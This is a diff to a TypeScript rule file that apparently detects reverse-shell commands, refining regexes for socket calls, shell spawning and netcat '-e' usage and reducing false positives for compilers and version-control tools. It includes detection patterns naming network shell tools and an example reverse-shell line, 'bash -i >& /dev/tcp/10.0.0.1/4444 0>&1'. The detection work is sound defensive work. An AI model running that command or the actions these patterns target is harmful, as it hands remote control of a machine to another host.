@@ -10,9 +10,14 @@ import { matching, only, type Rule, tools, verb } from '../rule.ts'
 const CONNECTS =
   /socket|fsockopen|TCPSocket|\/inet\/tcp|net\.Dial|TcpStream|TcpClient|IO::Socket|Net::|net["')]*\)?\.(?:connect|createServer|Socket)|gen_tcp|(?:Deno|Bun)\.connect|Sockets?\.(?:connect|tcp)/i
 const RUNS_COMMANDS =
-  /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|popen|proc_open|child_process|ProcessBuilder|run\(\s*pipeline|os\.execute|os:cmd|Process\.(?:start|new)|Deno\.Command|spawnSync|\biex\b|(?:system|passthru|spawn|`)[\s("']*(?:\/bin\/)?(?:ba|z|da)?sh\b/
+  /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|popen|proc_open|child_process|ProcessBuilder|run\(\s*pipeline|os\.execute|os:cmd|Process\.(?:start|new)|Deno\.Command|spawnSync|\biex\b|(?:system|passthru|spawn|`)[\s("']{0,8}(?:\/bin\/)?(?:ba|z|da)?sh\b/
 /** netcat told to hand a shell to the other end, in code of another language. */
-const NETCAT_SHELL = /\bn(?:et)?c(?:at)?\b[^;|\n]* -[a-z]*[ec] *(?:\/bin\/)?(?:ba|z|da|k)?sh\b/
+const NETCAT_SHELL = /\bn(?:et)?c(?:at)?\b[^;|\n]{0,200} -[a-z]{0,8}[ec] {0,8}(?:\/bin\/)?(?:ba|z|da|k)?sh\b/
+/** Calls that connect, and calls that run a shell. A name of a file, a package, a test or a table has only words of them. */
+const CALLS_CONNECT =
+  /\bsocket\s?(?:\(|\.(?:socket|create_connection|connect|tcp)\b)|fsockopen\s?\(|TCPSocket[.(]|\/inet\/tcp\/|net\.Dial\(|TcpStream::connect|TcpClient\(|IO::Socket|gen_tcp:connect|require\(["']net["']\)|(?:Deno|Bun)\.connect\(/i
+const CALLS_SHELL =
+  /\bdup2\s?\(|\bpty\.spawn\s?\(|(?:exec\w{0,8}|spawn\w{0,8}|system|popen\w{0,8}|call|run|Popen|Process|Command)\s{0,4}[("'[{`][\s("'[{]{0,8}(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh\b/
 
 /** Programs like netcat that hand a program, which they are told, to the other end of a connection. */
 const LISTENERS: ReadonlySet<string> = new Set(
@@ -47,12 +52,14 @@ export const SHELL_RULES: readonly Rule[] = [
         return c.args.filter(
           (arg, i) => c.args[i - 1]?.text === '-display' && /^(?!localhost)[\w.-]+:\d/.test(arg.text),
         )
-      // Code in the words of any tool counts; a tool that only shows its words is left out.
-      if (INERT.has(c.name)) return undefined
-      const runsInput = isInterpreter(c.name) || (c.args.length > 0 && c.scope.written?.size)
-      return [...c.args, ...(runsInput ? inputCode(c) : [])].filter(
-        ({ text }) => text.length >= LEAST_CODE && handsShell(text),
-      )
+      // Code in the words of any tool counts; a tool that only shows or keeps its words is left out.
+      if (INERT.has(c.name) || KEEPS_MESSAGES.has(c.name)) return undefined
+      const reads = isInterpreter(c.name)
+      const runsInput = reads || (COMPILES.has(c.name) && c.args.length > 0 && c.scope.written?.size)
+      return [
+        ...c.args.filter(({ text }) => isCode(text) && (reads ? handsShell(text) : callsShell(text))),
+        ...(runsInput ? inputCode(c).filter(({ text }) => isCode(text) && handsShell(text)) : []),
+      ]
     },
     example: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
   },
@@ -121,10 +128,20 @@ export const SHELL_RULES: readonly Rule[] = [
 const MORE =
   /^(?:[gmn]?awk|julia|jrunscript|jjs|groovy|scala|tclsh\d*|expect|luajit|R|octave|guile|elixir|erl|swipl|ghci)$/
 
+/** Tools that run the source of a file, which the line may have written before. */
+const COMPILES: ReadonlySet<string> = new Set(tools('go jshell java ghc deno bun'))
+/** Tools of version control: their words are names and messages. */
+const KEEPS_MESSAGES: ReadonlySet<string> = new Set(tools('hg svn jj fossil bzr cvs'))
+
 /** Code that connects and runs a shell is longer. */
 const LEAST_CODE = 24
-/** Whether the text has code that hands a shell to another machine. */
-export const handsShell = (text: string): boolean =>
+/** Whether the text is more than a name or a path. */
+const isCode = (text: string): boolean => text.length >= LEAST_CODE && /[\s("'`;{]/.test(text)
+/** Whether the text has code that hands a shell to another machine, for a tool that may run it or not. */
+export const callsShell = (text: string): boolean =>
+  NETCAT_SHELL.test(text) || (CALLS_CONNECT.test(text) && CALLS_SHELL.test(text))
+/** The same for code that an interpreter runs, where less proves it. */
+const handsShell = (text: string): boolean =>
   NETCAT_SHELL.test(text) || (CONNECTS.test(text) && RUNS_COMMANDS.test(text))
 /** Whether a word may be such code; a quick look that spares most commands the rule. */
 export const mayConnect = ({ text }: Arg): boolean =>
